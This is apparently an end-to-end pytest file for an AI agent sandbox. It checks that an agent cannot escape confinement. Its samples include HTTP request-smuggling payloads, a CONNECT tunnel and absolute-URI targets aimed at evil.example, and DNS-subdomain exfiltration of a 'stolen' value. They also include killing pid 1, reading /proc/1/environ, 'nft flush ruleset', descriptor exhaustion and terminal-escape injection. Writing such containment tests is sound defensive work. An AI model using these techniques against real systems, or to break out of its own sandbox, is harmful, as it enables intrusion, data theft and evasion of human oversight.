"""An agent that attacks its cage from inside: the broker, the firewall, pid 1 and the names."""

from __future__ import annotations

import json

import pytest

from tests.e2e.conftest import Akios

pytestmark = pytest.mark.root

RAW = """
import json, socket, ssl
def send(data, host="internal-crm.corp", end=True):
    raw = socket.create_connection((host, 443), timeout=20)
    with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as stream:
        try:
            stream.sendall(data if isinstance(data, bytes) else data.encode("latin-1"))
            said = b""
            while data := stream.recv(65536):
                said += data
        except OSError:
            pass
    return said.decode("latin-1")
def status(data):
    said = send(data).split("\\r\\n")[0]
    return said.split(" ")[1] if said else "closed"
"""

GET = "GET /customers/4821 HTTP/1.1\r\nHost: internal-crm.corp\r\n"

AMBIGUOUS = {
    "two framings": (
        "POST /customers HTTP/1.1\r\nHost: internal-crm.corp\r\nContent-Length: 5\r\n"
        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: internal-crm.corp\r\n\r\n"
    ),
    "two lengths": GET + "Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    "an unknown coding": GET + "Transfer-Encoding: xchunked\r\n\r\n",
    "chunked not last": GET + "Transfer-Encoding: chunked, identity\r\n\r\n",
    "two hosts": GET + "Host: api.openai.com\r\n\r\n",
    "a folded field": GET + "Folded: one\r\n two\r\n\r\n",
    "a space in a field's name": GET + "Bad name: x\r\n\r\n",
    "a NUL": GET + "X: a\x00b\r\n\r\n",
    "another host in the target": "GET https://evil.example/ HTTP/1.1\r\nHost: internal-crm.corp\r\n\r\n",
    "no host": "GET /customers HTTP/1.1\r\n\r\n",
    "another version": "GET /customers HTTP/2.0\r\nHost: internal-crm.corp\r\n\r\n",
    "a tunnel": "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    "TRACE": "TRACE / HTTP/1.1\r\nHost: internal-crm.corp\r\n\r\n",
    "HTTP/2 without being asked": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a method that is none": "G\x80T / HTTP/1.1\r\nHost: internal-crm.corp\r\n\r\n",
    "an endless field": GET + "X: " + "a" * 200_000 + "\r\n\r\n",
    "endless fields": GET + "X: y\r\n" * 5000 + "\r\n",
    "another protocol": "SSH-2.0-OpenSSH_9.2\r\n\r\n",
}


def test_a_request_that_two_parsers_could_read_differently_goes_nowhere(akios: Akios) -> None:
    akios.file("requests.json", json.dumps(AMBIGUOUS))
    run = akios.python(
        RAW
        + """
requests = json.load(open("requests.json"))
print(json.dumps({name: status(data) for name, data in requests.items()}))
"""
    )
    through = {name: said for name, said in run.said.items() if said != "closed" and said[0] != "4"}
    assert not through, run
    assert len(run.said) == len(AMBIGUOUS)
    assert not akios.upstream.requests()


def test_the_broker_s_own_ports_are_no_way_in(akios: Akios) -> None:
    run = akios.python(
        """
        import json, socket
        ports = set()
        for table in ("tcp", "tcp6"):
            for line in open(f"/proc/net/{table}").read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A":
                    ports.add(int(fields[1].rpartition(":")[2], 16))
        outcome = {}
        for port in ports:
            for host in ("127.0.0.1", "::1"):
                try:
                    with socket.create_connection((host, port), timeout=5) as stream:
                        stream.sendall(b"GET / HTTP/1.1\\r\\nHost: internal-crm.corp\\r\\n\\r\\n")
                        outcome[f"{host} {port}"] = stream.recv(100).decode("latin-1")
                except OSError as error:
                    outcome[f"{host} {port}"] = type(error).__name__
        print(json.dumps(outcome))
        """
    )
    assert set(run.said.values()) <= {"ConnectionRefusedError"}, run
    assert not akios.upstream.requests()


def test_an_address_that_was_never_given_out_leads_nowhere(akios: Akios) -> None:
    akios.allow("*.example.com")
    run = akios.python(
        """
        import json, socket
        def dial(address):
            try:
                with socket.create_connection((address, 443), timeout=5) as stream:
                    stream.sendall(b"\\x16\\x03\\x01\\x00\\x05hello")
                    return stream.recv(100).hex()
            except OSError as error:
                return type(error).__name__
        print(json.dumps([dial(f"198.19.0.{last}") for last in range(1, 30)]))
        """
    )
    assert set(run.said) <= {"ConnectionRefusedError", "ConnectionResetError", ""}, run


def test_names_carry_nothing_out(akios: Akios) -> None:
    run = akios.python(
        """
        import json, os, socket, struct
        def ask(name, kind):
            labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
            query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.settimeout(5)
                sender.sendto(query, ("8.8.8.8", 53))
                answer = sender.recv(4096)
            return [answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]
        stolen = os.urandom(20).hex()
        print(json.dumps({
            "below": ask(f"{stolen}.api.openai.com", 1),
            "elsewhere": ask(f"{stolen}.evil.example", 1),
            "text": ask("api.openai.com", 16),
            "mail": ask("api.openai.com", 15),
            "allowed": ask("api.openai.com", 1),
        }))
        """
    )
    NXDOMAIN = 3
    assert run.said["below"] == run.said["elsewhere"] == [NXDOMAIN, 0], run
    assert run.said["text"][1] == run.said["mail"][1] == 0
    assert run.said["allowed"] == [0, 1]


def test_pid_1_and_the_firewall_cannot_be_touched(akios: Akios) -> None:
    run = akios.python(
        """
        import json, os, signal, socket, subprocess
        outcome = {}
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(1, number)
                outcome[number.name] = "sent"
            except OSError as error:
                outcome[number.name] = error.strerror
        for path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/root", "/proc/1/cwd/x", "/proc/1/fd/0"):
            try:
                open(path, "rb").close()
                outcome[path] = "opened"
            except OSError as error:
                outcome[path] = error.strerror
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12).close()
            outcome["netfilter"] = subprocess.run(["/usr/sbin/nft", "flush", "ruleset"], capture_output=True).returncode
        except OSError as error:
            outcome["netfilter"] = error.strerror
        print(json.dumps(outcome))
        """
    )
    assert "opened" not in run.said.values(), run
    assert run.said["netfilter"] != 0
    assert run.status == 0


def test_a_thousand_idle_connections_do_not_stop_the_session(akios: Akios) -> None:
    run = akios.python(
        """
        import json, resource, socket, urllib.request
        resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))
        held = []
        for _ in range(950):
            try:
                held.append(socket.create_connection(("api.openai.com", 443), timeout=5))
            except OSError:
                break
        for stream in held[:len(held) // 2]:
            stream.close()
        print(urllib.request.urlopen("https://internal-crm.corp/customers/4821", timeout=20).read().decode())
        """
    )
    assert run.said["id"] == 4821, run


def test_what_the_agent_says_cannot_forge_the_report_or_the_terminal(akios: Akios) -> None:
    run = akios.python(
        """
        import http.client
        connection = http.client.HTTPSConnection("internal-crm.corp")
        connection.request("POST", "/%1b%5b2J" + "x" * 3000)
        connection.getresponse().read()
        import socket
        try:
            socket.getaddrinfo("a\\x1b[2Jb.example", 443)
        except OSError:
            pass
        """
    )
    assert "\x1b[2J" not in run.stderr
    assert "\x1b" not in json.dumps(run.report, ensure_ascii=False)
    assert len(run.stderr) < 5000
